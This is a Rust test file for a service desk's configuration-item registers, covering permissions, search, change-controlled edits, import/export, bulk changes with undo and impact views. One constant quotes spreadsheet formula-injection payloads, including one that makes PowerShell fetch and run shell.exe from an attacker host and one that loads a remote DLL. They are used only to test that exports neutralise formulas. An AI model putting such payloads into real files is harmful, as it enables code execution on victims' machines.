//! Registers of any kind in the browser: looked for, shown, added to, changed under a record.

mod desk;

use std::collections::BTreeSet;

use desk::browser::{Answer, Browser};
use desk::{CHANGE, Desk, staffed};
use engine::command::Command;
use engine::definition::Labels;
use engine::directory::{Entry, Standing};
use engine::event::Actor;
use engine::ids::Name;
use engine::value::{Fields, Value};
use runtime::StartOrder;

const ITEM: &str = "configuration_item";

/// A desk with a keeper of the configuration, a process of changes and some items that hang together.
fn configured() -> Desk {
    let desk = staffed();
    desk.deploy(CHANGE);
    let standing = Standing {
        roles: ["staff", "configuration_manager"].into_iter().map(Name::from).collect(),
        teams: BTreeSet::new(),
    };
    let store = desk.runtime.store();
    store.set_standing(&Name::from("chen"), &standing, &Name::from("root"), desk.runtime.now(), "x").expect("kept");
    for (key, name, status, on) in [
        ("vm-1", "Mail host", "live", None),
        ("db-1", "Mail database", "live", Some(("runs_on", "vm-1"))),
        ("app-1", "Webmail", "planned", Some(("depends_on", "db-1"))),
    ] {
        item(&desk, key, name, status, on);
    }
    desk.runtime.reload_directory().expect("readable");
    desk
}

fn item(desk: &Desk, key: &str, name: &str, status: &str, on: Option<(&str, &str)>) {
    let choice = |name: &str| Value::Choice(Name::from(name));
    let mut fields = Fields::from([
        (Name::from("class"), choice("server")),
        (Name::from("status"), choice(status)),
        (Name::from("environment"), choice("production")),
        (Name::from("criticality"), choice("medium")),
        (Name::from("source"), choice("manual")),
    ]);
    if let Some((relation, to)) = on {
        fields.insert(Name::from(relation), Value::List(vec![Value::Ref(Name::from(to))]));
    }
    let entry = Entry { labels: Labels::new(name, &format!("{name} 中文")), fields };
    let store = desk.runtime.store();
    store.put_entry(ITEM, &Name::from(key), &entry, &Name::from("root"), desk.runtime.now()).expect("kept");
}

/// A change that names items.
fn change(desk: &Desk, items: &[&str]) -> String {
    let items = items.iter().map(|key| Value::Ref(Name::from(*key))).collect();
    let fields = Fields::from([
        (Name::from("summary"), Value::Text("Renew the host".to_owned())),
        (Name::from("items"), Value::List(items)),
    ]);
    let order = StartOrder { process: Name::from("change"), by: Name::from("bao"), on_behalf_of: None, fields };
    desk.runtime.start(order).expect("the form fits").instance.number().to_owned()
}

/// Completes the open task of a record.
fn complete(desk: &Desk, number: &str, outcome: &str) {
    let id = desk.runtime.store().instance_of_number(number).expect("readable").expect("there is one");
    let loaded = desk.runtime.load(id).expect("readable").expect("there is one");
    let task = loaded.instance.tasks().first().expect("a task is open").id;
    let command = Command::Complete { task, outcome: Name::from(outcome), fields: Fields::new(), reason: None };
    desk.runtime.execute(id, Actor::Person(Name::from("mei")), command).expect("it is completed");
}

/// What the form to change the mail host sends, with another status and version.
fn host<'f>(status: &'f str, version: &'f str, more: &[(&'f str, &'f str)]) -> Vec<(&'f str, &'f str)> {
    let mut form = vec![
        ("name_zh", "邮件主机"),
        ("name_en", "Mail host"),
        ("is.class", "server"),
        ("is.status", status),
        ("is.environment", "production"),
        ("is.criticality", "medium"),
        ("is.source", "manual"),
        ("is.version", version),
    ];
    form.extend_from_slice(more);
    form
}

fn held(desk: &Desk, key: &str) -> Entry {
    desk.runtime.directory().entry(ITEM, &Name::from(key)).expect("it is there").clone()
}

/// The problem that a page shows at a control.
fn problem(answer: &Answer, control: &str) -> String {
    let marked = format!("id=\"{control}-problem\"");
    let found = answer.body.split(&marked).nth(1).and_then(|rest| rest.split("</p>").next());
    let found = found.unwrap_or_else(|| panic!("nothing is wrong at {control}: {}", answer.body));
    found.split("<span>").nth(1).and_then(|rest| rest.split("</span>").next()).unwrap_or_default().to_owned()
}

#[actix_web::test]
async fn staff_look_and_only_keepers_change() {
    let desk = configured();
    let mut bao = Browser::of(&desk, "bao").await;
    let seen = bao.get("/registers").await;
    assert!(seen.body.contains("Configuration item") && seen.body.contains("/registers/known_error"), "{}", seen.body);
    assert!(!bao.get(&format!("/registers/{ITEM}")).await.body.contains("/-/add"));
    assert_eq!(bao.get(&format!("/registers/{ITEM}/vm-1/edit")).await.status, 404);
    assert_eq!(bao.post(&format!("/registers/{ITEM}/vm-1/edit"), &host("live", "2", &[])).await.status, 404);
    let mut emil = Browser::of(&desk, "emil").await;
    assert_eq!(emil.get("/registers").await.status, 404, "who is no staff has no registers");
    let mut chen = Browser::of(&desk, "chen").await;
    assert!(chen.get(&format!("/registers/{ITEM}")).await.body.contains("/-/add"));
    assert_eq!(chen.get(&format!("/registers/{ITEM}/vm-1/edit")).await.status, 200);
    for own in ["person", "calendar", "nothing"] {
        assert_eq!(chen.get(&format!("/registers/{own}")).await.status, 404, "{own} has no page here");
    }
}

#[actix_web::test]
async fn a_list_is_searched_and_sorted_in_the_address_and_has_fifty_on_a_page() {
    let desk = configured();
    for number in 0..60 {
        item(&desk, &format!("pc-{number:02}"), &format!("Workstation {number}"), "planned", None);
    }
    desk.runtime.reload_directory().expect("readable");
    let mut bao = Browser::of(&desk, "bao").await;
    let list = format!("/registers/{ITEM}");
    let first = bao.get(&list).await.body;
    assert!(first.contains("1–50 of 65"), "{first}");
    assert_eq!(first.matches("data-row").count(), 50);
    let second = bao.get(&format!("{list}?page=2&sort=key&q=workst")).await.body;
    assert!(second.contains("51–60 of 60") && second.contains("pc-59") && !second.contains("pc-49"), "{second}");
    let by_status = bao.get(&format!("{list}?q=LIVE+database&sort=status&down=yes")).await.body;
    assert!(
        by_status.contains("db-1") && !by_status.contains("app-1") && by_status.contains("aria-sort=\"descending\"")
    );
    let by_relation = bao.get(&format!("{list}?q=vm-1&column=runs_on")).await.body;
    assert!(by_relation.contains("db-1") && by_relation.contains("Runs on"), "{by_relation}");
    bao.speak("zh-CN");
    let chinese = bao.get(&format!("{list}?q=%E8%BF%90%E8%A1%8C%E4%B8%AD")).await.body;
    assert!(chinese.contains("共 2 项") && chinese.contains("未核实"), "{chinese}");
}

#[actix_web::test]
async fn an_entry_shows_relations_from_both_ends_its_history_and_the_records_that_name_it() {
    let desk = configured();
    let number = change(&desk, &["vm-1"]);
    let over = change(&desk, &["vm-1"]);
    complete(&desk, &over, "agree");
    complete(&desk, &over, "done");
    let mut chen = Browser::of(&desk, "chen").await;
    let host = chen.get(&format!("/registers/{ITEM}/vm-1")).await.body;
    assert!(host.contains("Carries") && host.contains("/registers/configuration_item/db-1"), "{host}");
    assert!(host.contains("unverified") && host.contains("more than 180 days ago"), "{host}");
    let (open, closed) = (host.find(&number).expect("open"), host.find(&over).expect("over"));
    assert!(open < closed, "what is open comes first");
    let database = chen.get(&format!("/registers/{ITEM}/db-1")).await.body;
    assert!(database.contains("Runs on") && database.contains("Is needed by"), "{database}");
    let mut emil = Browser::of(&desk, "otto").await;
    assert_eq!(emil.get(&format!("/registers/{ITEM}/vm-1")).await.status, 200);
    assert_eq!(chen.get(&format!("/registers/{ITEM}/vm-9")).await.status, 404);
}

#[actix_web::test]
async fn what_is_open_is_not_hidden_by_many_that_are_over() {
    let desk = configured();
    let open = change(&desk, &["vm-1"]);
    let over: Vec<String> = (0..26).map(|_| change(&desk, &["vm-1"])).collect();
    for number in &over {
        complete(&desk, number, "agree");
        complete(&desk, number, "done");
    }
    let mut chen = Browser::of(&desk, "chen").await;
    let host = chen.get(&format!("/registers/{ITEM}/vm-1")).await.body;
    assert!(host.contains(&open), "{host}");
    assert!(!host.contains(&over[0]) && over[1..].iter().all(|number| host.contains(number)), "{host}");
    assert!(host.contains("Only the newest 25 are shown."), "{host}");
    let impact = chen.get(&format!("/registers/{ITEM}/vm-1/impact")).await.body;
    assert!(impact.contains(&open) && !over.iter().any(|number| impact.contains(number)), "{impact}");
    desk.is_sound();
}

#[actix_web::test]
async fn an_entry_is_added_with_its_defaults_and_refusals_stand_at_their_fields() {
    let desk = configured();
    let mut chen = Browser::of(&desk, "chen").await;
    let add = format!("/registers/{ITEM}/-/add");
    let blank = chen.get(&add).await.body;
    assert!(blank.contains("value=\"planned\" selected") || blank.contains("value=\"planned\" checked"), "{blank}");
    let refused = chen.post(&add, &[("key", "Ä"), ("is.serial", "kept as typed"), ("is.service", "nowhere")]).await;
    assert_eq!(refused.status, 422);
    assert!(problem(&refused, "f-key").contains("small letters"), "{}", problem(&refused, "f-key"));
    assert!(refused.body.contains("kept as typed"));
    let taken = chen.post(&add, &host("planned", "", &[("key", "mail")])).await;
    assert!(problem(&taken, "f-key").contains("taken"), "a service has this key");
    let nowhere = chen.post(&add, &host("planned", "", &[("key", "new-1"), ("is.service", "nowhere")])).await;
    assert_eq!(problem(&nowhere, "f-is-service"), "there is no “nowhere”");
    let unnamed = chen.post(&add, &[("key", "new-1")]).await;
    assert!(problem(&unnamed, "f-name").contains("name"));
    let added = chen.post(&add, &host("planned", "1.0", &[("key", "new-1"), ("is.service", "mail")])).await;
    assert_eq!((added.status, added.location.as_str()), (303, "/registers/configuration_item/new-1"));
    assert_eq!(held(&desk, "new-1").fields.get("service"), Some(&Value::Ref(Name::from("mail"))));
}

#[actix_web::test]
async fn a_controlled_attribute_of_a_live_item_changes_only_under_an_approved_change_that_names_it() {
    let desk = configured();
    let mut chen = Browser::of(&desk, "chen").await;
    let edit = format!("/registers/{ITEM}/vm-1/edit");
    assert!(chen.get(&edit).await.body.contains("Change that has reached “Approved” and names this entry"));
    let why = ("reason", "a new release");
    let bare = chen.post(&edit, &host("live", "2.0", &[why])).await;
    assert_eq!(bare.status, 422);
    assert!(problem(&bare, "f-is-version").contains("controlled"), "{}", bare.body);
    assert!(problem(&bare, "f-under").contains("Version"), "{}", problem(&bare, "f-under"));
    chen.speak("zh-CN");
    let bare = chen.post(&edit, &host("live", "2.0", &[why])).await;
    assert!(problem(&bare, "f-under").contains("须填写单号"), "{}", problem(&bare, "f-under"));
    chen.speak("en");
    let number = change(&desk, &["vm-1"]);
    let other = change(&desk, &["db-1"]);
    complete(&desk, &other, "agree");
    let incident = desk.report("dora", "No mail", "mail", ("high", "high"));
    for (under, says) in [
        ("CHG-9999", "there is no record"),
        (incident.as_str(), "another kind"),
        (number.as_str(), "has not reached"),
        (other.as_str(), "does not name"),
    ] {
        let refused = chen.post(&edit, &host("live", "2.0", &[why, ("under", under)])).await;
        assert_eq!(refused.status, 422, "{under}");
        assert!(problem(&refused, "f-under").contains(says), "{under}: {}", problem(&refused, "f-under"));
        assert!(refused.body.contains("value=\"2.0\""), "what was typed stays");
    }
    complete(&desk, &number, "agree");
    let without_reason = chen.post(&edit, &host("live", "2.0", &[("under", &number)])).await;
    assert_eq!(problem(&without_reason, "f-reason"), "please say why");
    let changed = chen.post(&edit, &host("live", "2.0", &[why, ("under", &number)])).await;
    assert_eq!(changed.status, 303, "{}", changed.body);
    assert_eq!(held(&desk, "vm-1").fields.get("version"), Some(&Value::Text("2.0".to_owned())));
    let seen = chen.get(&format!("/registers/{ITEM}/vm-1")).await.body;
    assert!(seen.contains("a new release") && seen.contains(&format!("/records/{number}")), "{seen}");
    complete(&desk, &number, "done");
    let over = chen.post(&edit, &host("live", "3.0", &[why, ("under", &number)])).await;
    assert!(problem(&over, "f-under").contains("is over"));
    let free = chen.post(&edit, &host("live", "2.0", &[why, ("is.supplier", "Acme")])).await;
    assert_eq!(free.status, 303, "what is not controlled needs no record: {}", free.body);
}

#[actix_web::test]
async fn a_service_that_is_added_can_be_reported_on() {
    let desk = staffed();
    let mut root = Browser::of(&desk, "root").await;
    let service = [("key", "print"), ("name_zh", "打印"), ("is.support_team", "desk"), ("is.calendar", "office")];
    assert_eq!(root.post("/registers/service/-/add", &service).await.status, 303);
    assert!(root.get("/portal").await.body.contains("打印"));
    let bare = root.post("/registers/service/-/add", &[("key", "scan"), ("name_zh", "扫描")]).await;
    assert_eq!(bare.status, 422, "a service needs a team and hours");
    assert_eq!(problem(&bare, "f-is-calendar"), "please fill this in");
}

/// Strings that spreadsheets take for formulas, a few of payloadbox's list of CSV injections (MIT).
const FORMULAS: [&str; 6] = [
    r#"DDE ("cmd";"/C calc";"!A0")A0"#,
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    r"=cmd|'/c rundll32.exe \\10.0.0.1\3\2\1.dll,0'!_xlbgnm.A1",
];

#[actix_web::test]
async fn an_import_shows_every_problem_by_line_and_column_and_makes_all_or_only_what_is_good() {
    let desk = configured();
    let mut chen = Browser::of(&desk, "chen").await;
    let address = format!("/registers/{ITEM}/-/import");
    let text = "key,name_zh,status,depends_on,verified_on,colour\n\
                srv-1,服务器一,planned,srv-2;vm-1,2026-01-05,red\n\
                srv-2,服务器二,flying,,,\n\
                srv-3,服务器三,,,soon,\n\
                \"srv-4\",\"服务器\n四\",live,,,\n\
                srv-4,again,live,,,\n\
                vm-1,邮件主机,retired,,,\n\
                short,row\n";
    let form = |wish: &'static str| vec![("text", text), ("do", wish), ("reason", "moved from the old list")];
    let seen = chen.post(&address, &form("preview")).await;
    assert_eq!(seen.status, 200, "{}", seen.body);
    let rows: Vec<&str> = seen.body.split("<tr>").collect();
    let told = |line: &str, column: &str, text: &str| {
        let found = rows.iter().any(|row| {
            row.contains(&format!(">{line}</td>")) && row.contains(&format!(">{column}</td>")) && row.contains(text)
        });
        assert!(found, "line {line}, {column}: {text} in {}", seen.body);
    };
    told("1", "colour", "no such attribute");
    told("2", "depends_on", "there is no “srv-2”");
    told("3", "status", "choose one of the values");
    told("4", "verified_on", "2026-09-18");
    told("7", "key", "stands on line 5 already");
    told("8", "status", "controlled");
    told("9", "", "another number of cells");
    assert!(desk.runtime.directory().entry(ITEM, &Name::from("srv-4")).is_none(), "a preview changes nothing");
    let all = chen.post(&address, &form("all")).await;
    assert_eq!(all.status, 422);
    assert!(desk.runtime.directory().entry(ITEM, &Name::from("srv-4")).is_none(), "all or nothing");
    let good = chen.post(&address, &form("good")).await;
    assert_eq!(good.status, 303, "{}", good.body);
    assert_eq!(held(&desk, "srv-4").labels.zh, "服务器\n四");
    assert!(desk.runtime.directory().entry(ITEM, &Name::from("srv-1")).is_none(), "what it names did not come in");
    assert!(chen.get(&good.location).await.body.contains("moved from the old list"));
}

#[actix_web::test]
async fn entries_that_name_each_other_come_in_together_and_a_second_time_change_nothing() {
    let desk = configured();
    let mut chen = Browser::of(&desk, "chen").await;
    let address = format!("/registers/{ITEM}/-/import");
    let text = r#"[
      { "key": "a-1", "name_zh": "甲", "status": "live", "connects_to": ["b-1"] },
      { "key": "b-1", "name_zh": "乙", "Status": "运行中", "connects_to": "a-1" }
    ]"#;
    let without_reason = chen.post(&address, &[("text", text), ("do", "all")]).await;
    assert_eq!(problem(&without_reason, "f-reason"), "please say why");
    let file = [("file", "items.json", "application/json", text.as_bytes())];
    let made = chen.post_files(&address, &[("do", "all"), ("reason", "network plan"), ("text", "")], &file).await;
    assert_eq!(made.status, 303, "{}", made.body);
    assert_eq!(held(&desk, "b-1").fields.get("status"), Some(&Value::Choice(Name::from("live"))));
    let again = chen.post(&address, &[("text", text), ("do", "preview")]).await;
    assert!(again.body.contains("everything is so already") && again.body.contains("2 stay as they are"));
    let again = chen.post(&address, &[("text", text), ("do", "all"), ("reason", "once more")]).await;
    assert_eq!((again.status, again.location.as_str()), (303, "/registers/configuration_item"));
    let history = desk.runtime.store().entry_history(&Name::from(ITEM), &Name::from("a-1")).expect("readable");
    assert_eq!(history.len(), 1, "nothing was written");
    for (broken, line) in
        [("[{\"key\": \"x\"},\n{oops}]", "2"), ("[{\"key\": \"x\"}\n", "2"), ("{\"key\": \"x\"}", "1")]
    {
        let told = chen.post(&address, &[("text", broken), ("do", "preview")]).await;
        assert!(told.body.contains("this cannot be read"), "{broken}: {}", told.body);
        assert!(told.body.contains(&format!("data-label=\"Line\">{line}</td>")), "{broken}");
    }
    let nothing = chen.post(&address, &[("do", "preview")]).await;
    assert_eq!(nothing.status, 422);
    assert!(problem(&nothing, "f-file").contains("nothing to import"));
    let latin = [("file", "items.csv", "text/csv", b"key,name_zh\n\xb7\xfe,\xce\xf1".as_slice())];
    let told = chen.post_files(&address, &[("do", "preview")], &latin).await;
    assert!(problem(&told, "f-file").contains("UTF-8"));
}

#[actix_web::test]
async fn what_is_exported_is_safe_for_spreadsheets_and_comes_back_the_same() {
    let desk = configured();
    let mut chen = Browser::of(&desk, "chen").await;
    for (number, formula) in FORMULAS.into_iter().chain(["'=1+1", "-5", "a;b\\c", "\"quoted\", 中文"]).enumerate() {
        item(&desk, &format!("risky-{number}"), formula, "planned", Some(("runs_on", "vm-1")));
        let mut entry = held_in_store(&desk, &format!("risky-{number}"));
        entry.fields.insert(Name::from("supplier"), Value::Text(formula.to_owned()));
        let store = desk.runtime.store();
        let key = Name::from(format!("risky-{number}"));
        store.put_entry(ITEM, &key, &entry, &Name::from("root"), desk.runtime.now()).expect("kept");
    }
    desk.runtime.reload_directory().expect("readable");
    for format in ["csv", "json"] {
        let file = chen.get(&format!("/registers/{ITEM}/-/export/{format}?q=risky")).await;
        assert_eq!(file.status, 200);
        let disposition = file.headers.get("content-disposition").and_then(|value| value.to_str().ok());
        assert!(disposition.is_some_and(|said| said.contains(&format!(".{format}"))), "{disposition:?}");
        assert!(!file.body.contains("db-1"), "only what the list shows");
        if format == "csv" {
            let mut cells =
                csv::ReaderBuilder::new().has_headers(false).from_reader(file.bytes.get(3..).expect("a mark"));
            for cell in cells
                .records()
                .flat_map(|record| record.expect("well formed").iter().map(str::to_owned).collect::<Vec<_>>())
            {
                assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell}");
            }
        }
        let name = format!("items.{format}");
        let files = [("file", name.as_str(), "text/plain", file.bytes.as_slice())];
        let back = chen.post_files(&format!("/registers/{ITEM}/-/import"), &[("do", "preview")], &files).await;
        assert!(back.body.contains("everything is so already"), "{format}: {}", back.body);
    }
    let mut emil = Browser::of(&desk, "emil").await;
    assert_eq!(emil.get(&format!("/registers/{ITEM}/-/export/csv")).await.status, 404);
}

fn held_in_store(desk: &Desk, key: &str) -> Entry {
    let history = desk.runtime.store().entry_history(&Name::from(ITEM), &Name::from(key)).expect("readable");
    history.first().expect("it is there").entry.clone()
}

#[actix_web::test]
async fn several_are_changed_together_where_they_may_and_it_is_taken_back() {
    let desk = configured();
    let mut chen = Browser::of(&desk, "chen").await;
    let bulk = format!("/registers/{ITEM}/-/bulk");
    let none = chen.post(&bulk, &[("attribute", "version")]).await;
    assert_eq!(none.status, 422);
    assert!(none.body.contains("Choose entries"));
    let chosen = [("entry", "vm-1"), ("entry", "app-1"), ("attribute", "version")];
    let form = chen.post(&bulk, &chosen).await;
    assert!(form.status == 200 && form.body.contains("name=\"is.version\""), "{}", form.body);
    let with = |more: &[(&'static str, &'static str)]| chosen.iter().chain(more).copied().collect::<Vec<_>>();
    let seen = chen.post(&bulk, &with(&[("is.version", "9"), ("do", "preview")])).await;
    assert!(seen.body.contains("1 to change") && seen.body.contains("1 with problems"), "{}", seen.body);
    assert!(seen.body.contains("→ 9") && seen.body.contains("controlled"), "{}", seen.body);
    let all = chen.post(&bulk, &with(&[("is.version", "9"), ("do", "all"), ("reason", "r")])).await;
    assert_eq!(all.status, 422, "one of them may not");
    assert_eq!(held(&desk, "app-1").fields.get("version"), None);
    desk.clock.set(desk.runtime.now().plus_ms(60_000));
    let good = chen.post(&bulk, &with(&[("is.version", "9"), ("do", "good"), ("reason", "upgrade day")])).await;
    assert_eq!(good.status, 303, "{}", good.body);
    assert_eq!(held(&desk, "app-1").fields.get("version"), Some(&Value::Text("9".to_owned())));
    assert_eq!(held(&desk, "vm-1").fields.get("version"), None);
    let listed = chen.get(&format!("/registers/{ITEM}/-/changes")).await.body;
    assert!(listed.contains("upgrade day"), "{listed}");
    let order = good.location.clone();
    assert!(chen.get(&order).await.body.contains("Undo"));
    let mut bao = Browser::of(&desk, "bao").await;
    assert!(!bao.get(&order).await.body.contains("Undo"));
    assert_eq!(bao.post(&order, &[("do", "all"), ("reason", "no")]).await.status, 404);
    desk.clock.set(desk.runtime.now().plus_ms(60_000));
    let undone = chen.post(&order, &[("do", "all"), ("reason", "wrong day")]).await;
    assert_eq!(undone.status, 303, "{}", undone.body);
    assert_eq!(held(&desk, "app-1").fields.get("version"), None);
    let twice = chen.post(&order, &[("do", "all"), ("reason", "again")]).await;
    assert_eq!(twice.status, 422);
    assert!(twice.body.contains("changed again since, by Chen Zhao"), "{}", twice.body);
}

#[actix_web::test]
async fn an_undo_obeys_the_guards_and_leaves_what_was_new() {
    let desk = configured();
    let mut chen = Browser::of(&desk, "chen").await;
    let text = "key,name_zh,status\nnew-1,新的,planned\napp-1,网页邮箱,live\n";
    let import = [("text", text), ("do", "all"), ("reason", "go-live")];
    let address = format!("/registers/{ITEM}/-/import");
    let refused = chen.post(&address, &import).await;
    assert_eq!(refused.status, 422, "going live is controlled too");
    let number = change(&desk, &["app-1"]);
    complete(&desk, &number, "agree");
    desk.clock.set(desk.runtime.now().plus_ms(60_000));
    let form: Vec<(&str, &str)> = import.iter().copied().chain([("under", number.as_str())]).collect();
    let made = chen.post(&address, &form).await;
    assert_eq!(made.status, 303, "{}", made.body);
    let seen = chen.post(&made.location, &[("do", "preview")]).await;
    assert!(seen.body.contains("it was added by this change") && seen.body.contains("controlled"), "{}", seen.body);
    desk.clock.set(desk.runtime.now().plus_ms(60_000));
    let undone = chen.post(&made.location, &[("do", "good"), ("reason", "back"), ("under", &number)]).await;
    assert_eq!(undone.status, 303, "{}", undone.body);
    assert_eq!(held(&desk, "app-1").fields.get("status"), Some(&Value::Choice(Name::from("planned"))));
    assert_eq!(held(&desk, "new-1").labels.zh, "新的");
}

#[actix_web::test]
async fn impact_is_a_picture_and_a_list_with_the_way_and_what_it_touches() {
    let desk = configured();
    let store = desk.runtime.store();
    let (by, now) = (Name::from("root"), desk.runtime.now());
    let mut mail = desk.runtime.directory().entry("service", &Name::from("mail")).expect("there").clone();
    mail.fields.insert(Name::from("runs_on"), Value::List(vec![Value::Ref(Name::from("app-1"))]));
    store.put_entry("service", &Name::from("mail"), &mail, &by, now).expect("kept");
    let fields = Fields::from([(Name::from("service"), Value::Ref(Name::from("mail")))]);
    let agreement = Entry { labels: Labels::new("Mail for sales", "销售部邮箱协议"), fields };
    store.put_entry("agreement", &Name::from("sla-1"), &agreement, &by, now).expect("kept");
    desk.runtime.reload_directory().expect("readable");
    let number = change(&desk, &["app-1"]);
    let over = change(&desk, &["app-1"]);
    complete(&desk, &over, "agree");
    complete(&desk, &over, "done");
    let mut bao = Browser::of(&desk, "bao").await;
    let host = bao.get(&format!("/registers/{ITEM}/vm-1/impact")).await;
    assert_eq!(host.status, 200, "{}", host.body);
    let way = "<em>Carries</em> → Mail database</span> <span class=\"hop\"><em>Is needed by</em> → Webmail";
    assert!(host.body.contains(way), "{}", host.body);
    assert!(host.body.contains("<svg class=\"impact\"") && host.body.contains("<title>Carries: Mail database</title>"));
    assert!(host.body.contains("Mail for sales") && host.body.contains("/registers/service/mail"), "{}", host.body);
    assert!(host.body.contains(&number) && !host.body.contains(&over), "only what is open");
    let application = bao.get(&format!("/registers/{ITEM}/app-1/impact")).await.body;
    assert!(application.contains("Depends on") && application.contains("Runs on"), "{application}");
    bao.speak("zh-CN");
    assert!(bao.get(&format!("/registers/{ITEM}/vm-1/impact")).await.body.contains("影响分析"));
}
